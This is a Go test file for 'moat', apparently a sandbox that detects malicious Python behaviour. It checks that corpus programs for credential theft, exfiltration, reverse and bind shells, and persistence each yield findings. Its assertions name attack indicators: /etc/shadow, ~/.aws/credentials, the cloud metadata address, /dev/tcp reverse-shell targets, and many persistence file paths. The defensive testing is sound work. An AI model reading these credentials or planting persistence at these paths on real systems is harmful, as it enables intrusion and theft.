package report_test

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/moat-sandbox/moat"
	"github.com/moat-sandbox/moat/backend/docker"
	"github.com/moat-sandbox/moat/backend/gvisor"
	"github.com/moat-sandbox/moat/backend/microvm"
	"github.com/moat-sandbox/moat/backend/native"
	"github.com/moat-sandbox/moat/backend/podman"
	"github.com/moat-sandbox/moat/internal/observe/audit"
	"github.com/moat-sandbox/moat/moattest"
	"github.com/moat-sandbox/moat/report"
)

// Every test of this package calls t.Parallel: a corpus run is mostly
// waiting (a sandbox's start and end, a program's timeouts), and on a
// 2-core machine two at a time take little more than one. Nothing here
// looks at the host's processes, cgroups or containers (the backends'
// suites do, one package at a time).
func TestMain(m *testing.M) {
	microvm.Init() // a micro-VM guest boots this test binary as its init
	native.Init()  // the sandbox init re-executes this test binary
	os.Exit(m.Run())
}

// run runs a corpus program on the native backend.
func run(t *testing.T, b moat.Backend, file string, mod func(*moat.Spec)) *moat.Result {
	t.Helper()
	src, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	name := filepath.Base(file)
	spec := &moat.Spec{Args: []string{name}, Files: map[string][]byte{name: src}, Limits: moat.Limits{Timeout: 20 * time.Second}}
	if mod != nil {
		mod(spec)
	}
	res, err := b.Run(context.Background(), spec)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	if res.Findings == nil {
		t.Fatalf("%s: Findings is nil, want a list", name)
	}
	return res
}

func dump(t *testing.T, res *moat.Result) {
	t.Helper()
	var b bytes.Buffer
	report.WriteSummary(&b, res)
	t.Logf("status %s exit %d\nstdout: %s\nstderr: %s\n%s", res.Status, res.ExitCode, res.Stdout, res.Stderr, b.String())
	for _, e := range res.Events {
		if e.Source != "moat" {
			t.Logf("  %6d %-7s %-14s %5d %s %s %s", e.TimeMS, e.Source, e.Kind, e.PID, e.Path+e.Addr+e.Name, e.Detail, e.Data)
		}
	}
}

// userland gives the sandbox a shell and core utilities, as `moat test`
// does by default.
func userland(s *moat.Spec) { s.Userland = true }

func has(fs []moat.Finding, cat moat.Category, minSev moat.Severity) bool {
	for _, f := range fs {
		if f.Category == cat && f.Severity.Rank() >= minSev.Rank() {
			return true
		}
	}
	return false
}

// TestCorpus: each malicious-behaviour program yields its finding, cold
// on the native backend and in a native zygote's children (the runs that
// fit one: not those of the userland, which run cold there too).
func TestCorpus(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	t.Run("native", func(t *testing.T) { corpus(t, b, false) })
	t.Run("zygote", func(t *testing.T) {
		if os.Geteuid() != 0 {
			t.Skip("the zygote is tested as root")
		}
		corpus(t, zygoteBackend(t), true)
	})
}

// forked fails a run that should have gone through a zygote child but ran
// cold: its findings would be the cold path's.
func forked(t *testing.T, res *moat.Result, want bool) {
	t.Helper()
	if want && !slices.ContainsFunc(res.Layers, func(l moat.Layer) bool { return l.Name == "zygote" }) {
		t.Fatalf("the run did not go through a zygote child: %v", res.Layers)
	}
}

func corpus(t *testing.T, b moat.Backend, zygote bool) {
	run := func(t *testing.T, b moat.Backend, file string, mod func(*moat.Spec)) *moat.Result {
		t.Helper()
		res := run(t, b, file, mod)
		forked(t, res, zygote && mod == nil)
		return res
	}
	want := []struct {
		file string
		mod  func(*moat.Spec)
		// every (category, minimum severity) must be found
		findings [][2]string
	}{
		{"steal_aws_post.py", nil, [][2]string{{"credential-access", "high"}, {"network", "medium"}, {"exfiltration", "critical"}}},
		{"dns_exfil.py", nil, [][2]string{{"exfiltration", "critical"}}},
		{"reverse_shell.py", nil, [][2]string{{"execution", "critical"}, {"network", "medium"}}},
		{"pth_persistence.py", nil, [][2]string{{"persistence", "high"}}},
		{"bashrc_edit.py", nil, [][2]string{{"persistence", "high"}}},
		{"download_exec.py", nil, [][2]string{{"execution", "high"}}},
		{"miner.py", func(s *moat.Spec) { s.Limits.Timeout = 2 * time.Second }, [][2]string{{"resource-abuse", "medium"}}},
		{"ctypes_syscall.py", nil, [][2]string{{"evasion", "high"}}},
		{"ctypes_thread.py", nil, [][2]string{{"evasion", "high"}}},
		{"tamper_hook.py", nil, [][2]string{{"evasion", "medium"}}},
		{"hook_frames.py", nil, [][2]string{{"evasion", "medium"}}},
		{"vsock_host.py", nil, [][2]string{{"network", "high"}}},
		{"shell_commands.py", userland, [][2]string{{"credential-access", "high"}, {"execution", "critical"}}},
		{"pty_reverse_shell.py", userland, [][2]string{{"execution", "critical"}}},
		{"exec_flood.py", userland, [][2]string{{"evasion", "medium"}, {"network", "medium"}, {"credential-access", "high"}}},
		// network none: the hook alone sees the body, past its first KiB
		{"long_body.py", nil, [][2]string{{"exfiltration", "critical"}}},
		{"big_file.py", nil, [][2]string{{"exfiltration", "critical"}}},
		{"sparse_file.py", nil, [][2]string{{"exfiltration", "critical"}}},
		{"fake_python.py", userland, [][2]string{{"execution", "high"}}},
		// the metadata service's address mapped into IPv6 (red team, session 22)
		{"imds_mapped.py", nil, [][2]string{{"credential-access", "high"}}},
		// native code mapped from a memfd (red team, session 22)
		{"memfd_native.py", nil, [][2]string{{"execution", "high"}}},
	}
	t.Run("exec-spelled", func(t *testing.T) {
		// files the run wrote, run by other spellings of their paths
		// (red team, session 22)
		res := run(t, b, filepath.Join("testdata", "corpus", "exec_spelled.py"), userland)
		wantNamed(t, res, moat.CategoryExecution, "/tmp/.c/a", "/tmp/.c/b")
		wantSpelledRead(t, res)
	})
	t.Run("tool-payloads", func(t *testing.T) {
		wantToolPayloads(t, run(t, b, filepath.Join("testdata", "corpus", "tool_payloads.py"), toolPayloads))
	})
	t.Run("exec-race", func(t *testing.T) {
		wantRace(t, b, "exec_race.py", true)
	})
	t.Run("exec-race-quiet", func(t *testing.T) {
		// the dropped program makes no watched call (red team, session 24)
		if runtime.GOARCH != "amd64" {
			t.Skip("the dropped program is an x86-64 ELF")
		}
		wantRace(t, b, "exec_race_quiet.py", true)
	})
	t.Run("exec-nodump", func(t *testing.T) {
		wantHidden(t, run(t, b, filepath.Join("testdata", "corpus", "exec_nodump.py"), userland))
	})
	t.Run("exec-race-xonly", func(t *testing.T) {
		if runtime.GOARCH != "amd64" {
			t.Skip("the dropped program is an x86-64 ELF")
		}
		wantRace(t, b, "exec_race_quiet.py xonly", true)
	})
	t.Run("exec-race-self", func(t *testing.T) {
		// the name flips to the caller's own program (red team, session 24)
		wantRace(t, b, "exec_race_self.py", true)
	})
	t.Run("pip-stage", func(t *testing.T) { wantPipStage(t, b) })
	t.Run("exec-procpath", func(t *testing.T) {
		// files the run wrote, run through /proc/self/cwd and a
		// directory descriptor (red team, session 22)
		res := run(t, b, filepath.Join("testdata", "corpus", "exec_procpath.py"), userland)
		if !strings.Contains(res.Stdout, "ran-a\nran-b") {
			t.Fatalf("the files did not run: %q", res.Stdout)
		}
		wantNamed(t, res, moat.CategoryExecution, "/proc/self/cwd/a", "/proc/self/fd/")
		// Native's witness follows no magic link: what ran is named and
		// hashed by the kernel's link after the exec (the script's
		// interpreter).
		wantRan(t, res)
	})
	for _, w := range want {
		t.Run(strings.TrimSuffix(w.file, ".py"), func(t *testing.T) {
			res := run(t, b, filepath.Join("testdata", "corpus", w.file), w.mod)
			for _, f := range w.findings {
				if !has(res.Findings, moat.Category(f[0]), moat.Severity(f[1])) {
					dump(t, res)
					t.Errorf("no %s finding of severity %s or more", f[0], f[1])
				}
			}
		})
	}
	t.Run("native-import", func(t *testing.T) {
		res := run(t, b, filepath.Join("testdata", "corpus", "native_ext.py"), nil)
		for _, e := range res.Events {
			if e.Source == "audit" && e.Kind == "native-import" && strings.HasPrefix(e.Path, "/tmp/payload/") {
				return
			}
		}
		dump(t, res)
		t.Error("no native-import event for the extension loaded from /tmp/payload")
	})
	t.Run("every-command", func(t *testing.T) {
		// each command line is judged on kernel evidence, none dropped
		res := run(t, b, filepath.Join("testdata", "corpus", "shell_commands.py"), userland)
		for _, want := range []string{"169.254.169.254", "/etc/shadow", ".aws/credentials", "/dev/tcp/203.0.113.9"} {
			found := false
			for _, f := range res.Findings {
				for _, e := range f.Evidence {
					found = found || (e.Source == moat.SourceKernel && strings.Contains(f.Summary, want))
				}
			}
			if !found {
				dump(t, res)
				t.Errorf("no finding on kernel evidence names %q", want)
			}
		}
	})
	t.Run("exec-flood-hides-nothing", func(t *testing.T) {
		res := run(t, b, filepath.Join("testdata", "corpus", "exec_flood.py"), userland)
		hidesNothing(t, res, moat.SeverityMedium)
	})
	t.Run("exec-hash", func(t *testing.T) {
		res := run(t, b, filepath.Join("testdata", "corpus", "download_exec.py"), nil)
		for _, e := range res.Events {
			if e.Source == moat.SourceKernel && e.Kind == moat.KindExec && e.Path == "/tmp/.cache-update" && len(e.SHA256) == 64 {
				return
			}
		}
		dump(t, res)
		t.Error("no kernel exec event of the dropped payload with its sha256")
	})
	t.Run("written-by-name", func(t *testing.T) {
		// a shell the run copied is executed by a name: python3, bash
		res := run(t, b, filepath.Join("testdata", "corpus", "fake_python.py"), userland)
		wantNamed(t, res, moat.CategoryExecution, "/tmp/.local/bin/python3", "/work/venv/bin/python3", "/tmp/.x/bash")
		// the hook names venv/bin/python3, run by a relative path, whole
		// (where it is the only witness of execs: Kubernetes on gVisor)
		if !slices.ContainsFunc(res.Events, func(e moat.Event) bool {
			return e.Source == moat.SourceAudit && e.Kind == moat.KindExec && e.Path == "/work/venv/bin/python3"
		}) {
			dump(t, res)
			t.Error("no audit exec event of /work/venv/bin/python3")
		}
	})
	t.Run("exec-swapped", func(t *testing.T) {
		// a dropped binary, the interpreter renamed over it as it runs
		res := run(t, b, filepath.Join("testdata", "corpus", "swap_exec.py"), userland)
		wantNamed(t, res, moat.CategoryExecution, "/work/fetcher", "/work/updater")
	})
	t.Run("persistence-hidden", func(t *testing.T) {
		// a .pth padded past its first KiB, one over 1 MiB, one after 700 other files
		res := run(t, b, filepath.Join("testdata", "corpus", "pth_hidden.py"), nil)
		wantNamed(t, res, moat.CategoryPersistence, "aa_padded.pth", "bb_big.pth", "zz_late.pth")
	})
	t.Run("persistence-forms", func(t *testing.T) { persistForms(t, b, nil) })
	t.Run("persistence-later", func(t *testing.T) { persistLater(t, b, nil) })
	t.Run("daemonize", func(t *testing.T) {
		wantDaemon(t, run(t, b, filepath.Join("testdata", "corpus", "daemonize.py"), nil), "daemonize.py")
	})
	t.Run("daemon-stopped", func(t *testing.T) { daemonStopped(t, b) })
	t.Run("daemon-limit", func(t *testing.T) { daemonLimited(t, b) })
	t.Run("tracker-late", func(t *testing.T) {
		noOutlived(t, run(t, b, filepath.Join("testdata", "benign", "tracker_late.py"), nil))
	})
	t.Run("shm-drop", func(t *testing.T) {
		wantShm(t, run(t, b, filepath.Join("testdata", "corpus", "shm_drop.py"), nil))
	})
	t.Run("xattr-secret", func(t *testing.T) {
		wantXattr(t, run(t, b, filepath.Join("testdata", "corpus", "xattr_secret.py"), nil))
	})
	t.Run("nosite-child", func(t *testing.T) {
		wantNoSite(t, run(t, b, filepath.Join("testdata", "corpus", "nosite_child.py"), nil))
	})
	t.Run("nosite-suite", func(t *testing.T) {
		noneAboveLow(t, run(t, b, filepath.Join("testdata", "benign", "nosite_suite.py"), nil))
	})
	t.Run("venv-suite", func(t *testing.T) {
		noneAboveLow(t, run(t, b, filepath.Join("testdata", "benign", "venv_suite.py"), nil))
	})
	t.Run("venv-throwaway", func(t *testing.T) {
		noneAboveLow(t, run(t, b, filepath.Join("testdata", "benign", "venv_throwaway.py"), nil))
	})
	t.Run("script-suite", func(t *testing.T) {
		noneAboveLow(t, run(t, b, filepath.Join("testdata", "benign", "script_suite.py"), userland))
	})
	t.Run("script-shebang", func(t *testing.T) {
		res := run(t, b, filepath.Join("testdata", "corpus", "script_shebang.py"), userland)
		wantNamed(t, res, moat.CategoryExecution, "/work/viaDrop", "/work/viaProc")
	})
	t.Run("launcher", func(t *testing.T) { wantLauncherOwn(t, b) })
	t.Run("script-nohook", func(t *testing.T) {
		wantNoHook(t, run(t, b, filepath.Join("testdata", "corpus", "script_nohook.py"), nil))
	})
	// a listening backdoor: the kernel sees the listen (and the hook's
	// bind, or not: ctypes), the shell on the accepted connection
	t.Run("bind-shell", func(t *testing.T) { wantBindShell(t, b, false, "0.0.0.0:4444", "0.0.0.0:5005") })
	t.Run("bind-shell-ctypes", func(t *testing.T) { wantBindShell(t, b, true, "0.0.0.0:4445") })
	t.Run("local-server", func(t *testing.T) {
		noneAboveLow(t, run(t, b, filepath.Join("testdata", "benign", "local_server.py"), nil))
	})
	t.Run("persistence-diff-content", func(t *testing.T) {
		res := run(t, b, filepath.Join("testdata", "corpus", "pth_persistence.py"), nil)
		var pth, rc bool
		for _, f := range res.Findings {
			pth = pth || strings.Contains(f.Summary, "zz_helper.pth")
			rc = rc || strings.Contains(f.Summary, ".bashrc")
		}
		if !pth || !rc {
			dump(t, res)
			t.Errorf(".pth %v, .bashrc %v: want both", pth, rc)
		}
	})
}

// wantNoSite: the children of corpus/nosite_child.py, started with -S,
// -I and -E, ran with the audit hook (from the runtime's encodings
// package where no site directory's .pth line runs): no "ran without
// moat's audit hook" finding, each child's credential read and connect
// attributed to its pid by the hook, and no process said hello twice.
func wantNoSite(t *testing.T, res *moat.Result) {
	t.Helper()
	for _, f := range res.Findings {
		if strings.Contains(f.Summary, "ran without moat's audit hook") {
			dump(t, res)
			t.Errorf("finding %q", f.Summary)
		}
	}
	hellos := map[int]int{}
	for _, e := range res.Events {
		if e.Source == moat.SourceAudit && e.Kind == moat.KindHello {
			hellos[e.PID]++
		}
	}
	for pid, n := range hellos {
		if n != 1 {
			dump(t, res)
			t.Errorf("pid %d said hello %d times: the hook was installed more than once", pid, n)
		}
	}
	children := 0
	for _, e := range res.Events {
		if e.Source != moat.SourceKernel || e.Kind != moat.KindExec || !strings.Contains(e.Detail, " -c ") {
			continue
		}
		children++
		var read, connect bool
		for _, a := range res.Events {
			if a.Source == moat.SourceAudit && a.PID == e.PID {
				read = read || a.Kind == "open" && strings.HasSuffix(a.Path, "/.aws/credentials")
				connect = connect || a.Kind == "connect" && strings.Contains(a.Addr, "203.0.113.21")
			}
		}
		if hellos[e.PID] != 1 || !read || !connect {
			dump(t, res)
			t.Errorf("child %d (%.60s): hello %d, its credential read %v and connect %v by the hook: want each", e.PID, e.Detail, hellos[e.PID], read, connect)
		}
	}
	if children != 3 {
		dump(t, res)
		t.Errorf("%d kernel execs of the -S, -I children, want 3", children)
	}
}

// noSiteChildren is wantNoSite for the children of the batch program
// pid (corpus/nosite_child.py in a batch that holds other programs).
func noSiteChildren(t *testing.T, res *moat.Result, pid int) {
	t.Helper()
	var kids []string
	children := 0
	for _, e := range res.Events {
		if e.Source != moat.SourceKernel || e.Kind != moat.KindExec || e.PPID != pid || !strings.Contains(e.Detail, " -c ") {
			continue
		}
		children++
		kids = append(kids, fmt.Sprint(e.PID))
		hello, read, connect := 0, false, false
		for _, a := range res.Events {
			if a.Source == moat.SourceAudit && a.PID == e.PID {
				if a.Kind == moat.KindHello {
					hello++
				}
				read = read || a.Kind == "open" && strings.HasSuffix(a.Path, "/.aws/credentials")
				connect = connect || a.Kind == "connect" && strings.Contains(a.Addr, "203.0.113.21")
			}
		}
		if hello != 1 || !read || !connect {
			t.Errorf("child %d (%.60s): hello %d, its credential read %v and connect %v by the hook: want one, and each", e.PID, e.Detail, hello, read, connect)
		}
	}
	if children != 3 {
		t.Errorf("%d kernel execs of the -S, -I children, want 3", children)
	}
	for _, f := range res.Findings {
		if !strings.Contains(f.Summary, "ran without moat's audit hook") {
			continue
		}
		for _, e := range f.Evidence {
			if slices.Contains(kids, fmt.Sprint(e.PID)) {
				t.Errorf("finding %q names child %d", f.Summary, e.PID)
			}
		}
	}
}

// wantLauncherOwn: with Spec.Launcher, the launcher's exec of the
// phase's program (sh -c) is moat's: no finding names a shell.
func wantLauncherOwn(t *testing.T, b moat.Backend) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "benign", "launcher.py"), func(s *moat.Spec) { userland(s); s.Launcher = true })
	if !strings.Contains(res.Stdout, "launched") {
		dump(t, res)
		t.Fatalf("stdout %q: the launcher did not run its program", res.Stdout)
	}
	for _, f := range res.Findings {
		if strings.Contains(f.Summary, "shell") || strings.Contains(f.Summary, "executed programs") {
			dump(t, res)
			t.Errorf("moat's launcher is a finding: %s %s: %s", f.Severity, f.Category, f.Summary)
		}
	}
}

// wantNoHook: a script run by a venv's python (the interpreter, by its
// hash) that the venv's standard library keeps from the hook is a medium
// "ran without moat's audit hook", not a script under the hook.
func wantNoHook(t *testing.T, res *moat.Result) {
	t.Helper()
	for _, f := range res.Findings {
		if f.Category == moat.CategoryEvasion && strings.Contains(f.Summary, "ran without moat's audit hook") && f.Severity == moat.SeverityMedium {
			return
		}
	}
	dump(t, res)
	t.Error("no medium evasion finding of a Python process without the hook")
}

// noneAboveLow: a benign run exits 0 with no finding above low.
func noneAboveLow(t *testing.T, res *moat.Result) {
	t.Helper()
	if res.Status != moat.StatusExited || res.ExitCode != 0 {
		dump(t, res)
		t.Fatalf("status %s exit %d", res.Status, res.ExitCode)
	}
	for _, f := range res.Findings {
		if f.Severity.Rank() > moat.SeverityLow.Rank() {
			dump(t, res)
			t.Errorf("benign program got %s %s: %s", f.Severity, f.Category, f.Summary)
		}
	}
}

// persistForms runs persist_forms.py and wants a high persistence
// finding naming each of its files: a .pth whose import line follows a
// carriage return, pip's, distutils', git's and ssh's configuration, a
// git hook, a command in ~/.local/bin, IPython's startup, fish and
// session environment files, sitecustomize as a package and as a .pyc.
func persistForms(t *testing.T, b moat.Backend, mod func(*moat.Spec)) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", "persist_forms.py"), mod)
	wantNamed(t, res, moat.CategoryPersistence, "/cr_only.pth", "/cr_padded.pth", "/sitecustomize/__init__.py", "/usercustomize.pyc",
		"/.config/pip/pip.conf", "/.pydistutils.cfg", "/.gitconfig", "/repo/.git/config", "/hooks/post-checkout",
		"/.local/bin/sudo", "/startup/00-x.py", "/.ssh/config", "/.bash_aliases", "/conf.d/x.fish", "/environment.d/50-x.conf")
}

// persistLater runs persist_later.py and wants a high persistence
// finding naming each of its files: what other tools a developer runs
// read and run (bash drop-ins and completions, direnv, editors, tmux,
// gdb, Mercurial, AWS's credential_process, a Docker CLI plugin, a
// Jupyter kernel, a VS Code task, a desktop entry, npm and uv, a
// conftest.py, modules shadowing an installed package and the standard
// library), and a git and an SSH configuration padded past their first KiB.
func persistLater(t *testing.T, b moat.Backend, mod func(*moat.Spec)) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", "persist_later.py"), mod)
	wantNamed(t, res, moat.CategoryPersistence, "/.bashrc.d/10-tools.sh", "/completions/git", "/work/.envrc", "/.vimrc",
		"/nvim/init.lua", "/.tmux.conf", "/.gdbinit", "/.hgrc", "/.aws/config", "/cli-plugins/docker-compose",
		"/kernels/python3/kernel.json", "/.vscode/tasks.json", "/applications/firefox.desktop", "/.npmrc", "/uv/uv.toml",
		"/work/conftest.py", "/site-packages/six.py", "/work/json.py", "/.gitconfig", "/.ssh/config",
		"/work/.venv/pyvenv.cfg", "/work/.venv/bin/python._pth")
}

// wantNamed wants, for each name, a finding of the category, high or
// above, whose summary names it.
// wantPipStage: corpus/pip_stage.py's installs at run time are a medium
// execution finding that names the packages (the shell's where the
// sandbox has a shell).
func wantPipStage(t *testing.T, b moat.Backend) {
	t.Helper()
	res := run(t, b, filepath.Join("testdata", "corpus", "pip_stage.py"), userland)
	for _, f := range res.Findings {
		if f.Category == moat.CategoryExecution && f.Severity.Rank() >= moat.SeverityMedium.Rank() &&
			strings.Contains(f.Summary, "installed packages at run time") && strings.Contains(f.Summary, "colourama-helper") {
			return
		}
	}
	dump(t, res)
	t.Error("no finding of the packages installed at run time (colourama-helper)")
}

func wantNamed(t *testing.T, res *moat.Result, cat moat.Category, names ...string) {
	t.Helper()
	for _, name := range names {
		found := false
		for _, f := range res.Findings {
			found = found || (f.Category == cat && f.Severity.Rank() >= moat.SeverityHigh.Rank() && strings.Contains(f.Summary, name))
		}
		if !found {
			dump(t, res)
			t.Errorf("no high %s finding names %s", cat, name)
		}
	}
}

// wantSpelledRead: corpus/exec_spelled.py's read of ~/.aws/credentials
// through /proc/self/root is the hook's open of the planted file, not a
// read past the hook.
func wantSpelledRead(t *testing.T, res *moat.Result) {
	t.Helper()
	for _, f := range res.Findings {
		if strings.Contains(f.Summary, "past the audit hook") {
			dump(t, res)
			t.Errorf("the hook's open through /proc/self/root was not matched: %s", f.Summary)
		}
	}
	if !has(res.Findings, moat.CategoryCredentialAccess, moat.SeverityHigh) {
		dump(t, res)
		t.Error("no credential-access finding")
	}
}

// wantShm: the .pth and the secret that corpus/shm_drop.py leaves in
// /dev/shm are found and named there: every backend's report covers
// /dev/shm (on gVisor a tmpfs inside the Sentry, walked by moat's init).
func wantShm(t *testing.T, res *moat.Result) {
	t.Helper()
	var pth, secret bool
	for _, f := range res.Findings {
		pth = pth || (f.Category == moat.CategoryPersistence && f.Severity.Rank() >= moat.SeverityHigh.Rank() && strings.Contains(f.Summary, "/dev/shm/zz_shm.pth"))
		secret = secret || (f.Category == moat.CategoryExfiltration && f.Severity.Rank() >= moat.SeverityCritical.Rank() && strings.Contains(f.Summary, "/dev/shm/.sem.cache"))
	}
	if !pth || !secret {
		dump(t, res)
		t.Errorf("a high persistence finding of /dev/shm/zz_shm.pth %v, a critical exfiltration finding of /dev/shm/.sem.cache %v: want both", pth, secret)
	}
}

// wantXattr: the secret that corpus/xattr_secret.py hides in extended
// attributes (of a file in /tmp, a directory in /tmp, a file in /work) is
// a critical exfiltration finding naming each.
func wantXattr(t *testing.T, res *moat.Result) {
	t.Helper()
	if res.ExitCode != 0 {
		dump(t, res)
		t.Fatalf("the program could not set its attributes: %s", res.Stderr)
	}
	for _, p := range []string{"/tmp/notes.txt", "/tmp/.cache/thumbs", "/work/data.bin"} {
		if !slices.ContainsFunc(res.Findings, func(f moat.Finding) bool {
			return f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical && strings.Contains(f.Summary, p) && strings.Contains(f.Summary, "extended attribute")
		}) {
			dump(t, res)
			t.Errorf("no critical exfiltration finding of the secret in an extended attribute of %s", p)
		}
	}
}

// hidesNothing fails a run of a flood program (exec_flood.py and its
// kin) whose payload, run after the flood, is not in the kernel's events
// (the shell that reads /etc/shadow, the connect to 203.0.113.7:443), or
// whose flood was not counted and made an evasion finding of at least
// sev.
func hidesNothing(t *testing.T, res *moat.Result, sev moat.Severity) {
	t.Helper()
	var exec, conn bool
	for _, e := range res.Events {
		exec = exec || (e.Source == moat.SourceKernel && e.Kind == moat.KindExec && strings.Contains(e.Detail, "cat /etc/shadow"))
		conn = conn || (e.Source == moat.SourceKernel && e.Kind == moat.KindConnect && e.Addr == "203.0.113.7:443")
	}
	if !exec || !conn || res.EventsDropped == 0 || !has(res.Findings, moat.CategoryEvasion, sev) {
		dump(t, res)
		t.Errorf("payload exec kept %v, connect kept %v, dropped %d, evasion finding of %s %v", exec, conn, res.EventsDropped, sev, has(res.Findings, moat.CategoryEvasion, sev))
	}
}

// nativeTells are the tells native leaves (docs/report.md): the time
// namespace that makes its machine the persona's age shows its offsets,
// and does not shift /proc/stat's CPU times (they total the host's
// uptime), and the planted files' change time is the run's start (the
// host's clock, which no one can set back for them).
var nativeTells = []string{"the clocks are offset", "the CPU times", "the home's files were made"}

// TestTells: a program that looks for the cheap tells of moat finds none,
// and the machine it sees is another each run (the persona).
func TestTells(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	host := moattest.HostSiteNames(t)
	noTells(t, b, func(s *moat.Spec) { s.Files["host.txt"] = host }, nativeTells...)
	// The sinkhole's resolver and CA files are the run's own: they look
	// like an ordinary machine's too.
	t.Run("sinkhole", func(t *testing.T) {
		noTells(t, b, func(s *moat.Spec) { s.Files["host.txt"] = host; s.Network = moat.NetworkSinkhole }, nativeTells...)
	})
	// A zygote child's program is a cold run's to itself: its command
	// line, environment, pid 1 (backend/native TestZygoteTells compares
	// the pids).
	t.Run("zygote", func(t *testing.T) {
		if os.Geteuid() != 0 {
			t.Skip("the zygote is tested as root")
		}
		// The zygote's children share its hook and its clocks (drawn
		// once a zygote).
		noTells(t, zygoteOnly{zygoteBackend(t)}, func(s *moat.Spec) { s.Files["host.txt"] = host }, append(nativeTells, "the hook's place", "the boot time")...)
	})
}

// zygoteOnly fails a run that did not go through a zygote child.
type zygoteOnly struct{ moat.Backend }

func (b zygoteOnly) Run(ctx context.Context, spec *moat.Spec) (*moat.Result, error) {
	res, err := b.Backend.Run(ctx, spec)
	if err == nil && !slices.ContainsFunc(res.Layers, func(l moat.Layer) bool { return l.Name == "zygote" }) {
		return nil, fmt.Errorf("the run did not go through a zygote child: %v", res.Layers)
	}
	return res, err
}

// noTells runs tells.py on b (moattest.NoTells): on a container backend
// an image's first run too, as its learning runs come before it
// (container.Learn). known are tells the backend is documented to leave.
func noTells(t *testing.T, b moat.Backend, mod func(*moat.Spec), known ...string) {
	t.Helper()
	moattest.NoTells(t, b, filepath.Join("testdata", "corpus", "tells.py"), mod, known...)
}

// TestBenign: ordinary programs yield nothing above low.
func TestBenign(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	for _, f := range []string{"numeric.py", "fileio.py", "netrc_lookup.py", "echo_test.py", "connect_by_name.py", "tarpit_connect.py", "dual_stack.py", "source_bind.py", "server_stdin.py", "passive_lookup.py", "finalizer_logs.py", "nosite_suite.py", "venv_suite.py"} {
		t.Run(strings.TrimSuffix(f, ".py"), func(t *testing.T) {
			noneAboveLow(t, run(t, b, filepath.Join("testdata", "benign", f), userland))
		})
	}
	// A node_modules of 60,000 files and a venv: ordinary work whose
	// walk must not be cut ("the report is incomplete" is medium).
	t.Run("big_tree", func(t *testing.T) {
		res := run(t, b, filepath.Join("testdata", "benign", "big_tree.py"), func(s *moat.Spec) { s.Limits.Timeout = 300 * time.Second })
		noneAboveLow(t, res)
		if !strings.Contains(res.Stdout, "files 62000") {
			t.Errorf("the tree was not made: %q", res.Stdout)
		}
	})
	t.Run("pytest", func(t *testing.T) {
		py := "/usr/bin/python3"
		moattest.RequirePython(t, py, "pytest")
		ws, err := filepath.Abs(filepath.Join("testdata", "benign", "pytest_project"))
		if err != nil {
			t.Fatal(err)
		}
		spec := &moat.Spec{Python: py, Args: []string{"-m", "pytest", "-q", "-p", "no:cacheprovider"}, Workspace: ws,
			Limits: moat.Limits{Timeout: 60 * time.Second}}
		res, err := b.Run(context.Background(), spec)
		if err != nil {
			t.Fatal(err)
		}
		noneAboveLow(t, res)
		if !strings.Contains(res.Stdout, "4 passed") {
			t.Errorf("pytest did not pass: %s", res.Stdout)
		}
	})
}

// TestForgery: what a program prints is never a finding, and what it
// writes to the audit channel is labelled as its own claim, bounded, and
// never one of moat's own kinds.
func TestForgery(t *testing.T) {
	t.Parallel()
	b := moattest.RequireBackend(t, "native")
	res := run(t, b, filepath.Join("testdata", "corpus", "forge.py"), nil)
	for _, f := range res.Findings {
		if f.Severity == "critical" || strings.Contains(f.Summary, "FORGED") {
			dump(t, res)
			t.Errorf("forged finding: %+v", f)
		}
		audit := true
		for _, e := range f.Evidence {
			audit = audit && e.Source == "audit"
		}
		if len(f.Evidence) > 0 && audit && !strings.Contains(f.Summary, "audit hook") {
			t.Errorf("finding on audit claims only is not labelled: %s", f.Summary)
		}
	}
	for _, e := range res.Events {
		ownKind := e.Kind == moat.KindHoneytokenPlanted || e.Kind == moat.KindIdentity || e.Kind == moat.KindInterpreter || e.Kind == moat.KindEvents ||
			e.Kind == moat.KindHoneytokenWitness
		if e.Source == "moat" && (!ownKind || strings.Contains(e.Data+e.Detail+e.Path, "FORGED")) {
			t.Errorf("forged moat event: %+v", e)
		}
		if e.Source == "audit" && (e.Kind == "honeytoken-planted" || e.Kind == "limit" || e.Kind == "finding") {
			t.Errorf("forged kind accepted: %+v", e)
		}
	}
	if res.EventsDropped == 0 {
		t.Error("a flood of 5000 lines dropped nothing")
	}
}

// TestCorpusSinkhole: with the sinkhole network the secret reaches moat's
// sink, and the exfiltration finding rests on network evidence, not only
// on the program's own audit claims.
// It runs on native, on gVisor (direct, and as Docker's runtime registered
// with --network=host) and, served from the host in the container's
// network namespace, on docker and podman.
func TestCorpusSinkhole(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, _ string, b moat.Backend) { corpusSinkhole(t, b) })
}

// TestCorpusDaemonize: a daemon (double fork, setsid) still running when
// the program ends, or when moat ends the run (its timeout) while the
// program still runs, is a medium evasion finding on every backend whose
// init lists what outlived the program (native's cold runs and zygote in
// TestCorpus; bootstrap.py in TestCorpusPythonInit; the micro-VM in
// TestCorpusMicroVM; Kubernetes in TestCorpusKubernetes), and multiprocessing's resource tracker, which
// exits just after the program, is none.
func TestCorpusDaemonize(t *testing.T) {
	t.Parallel()
	sinkholeBackends(t, func(t *testing.T, _ string, b moat.Backend) {
		// docker and podman: the host lists the daemons from the
		// container's cgroup as it ends the run at the pids limit;
		// gVisor, direct or through Docker: moat's init keeps the limit.
		daemonCases(t, b)
	})
}

// daemonCases are the cases of a daemon on b.
func daemonCases(t *testing.T, b moat.Backend) {
	t.Run("daemonize", func(t *testing.T) {
		wantDaemon(t, run(t, b, filepath.Join("testdata", "corpus", "daemonize.py"), nil), "daemonize.py")
	})
	t.Run("daemon-stopped", func(t *testing.T) { daemonStopped(t, b) })
	t.Run("daemon-limit", func(t *testing.T) { daemonLimited(t, b) })
	t.Run("tracker-late", func(t *testing.T) {
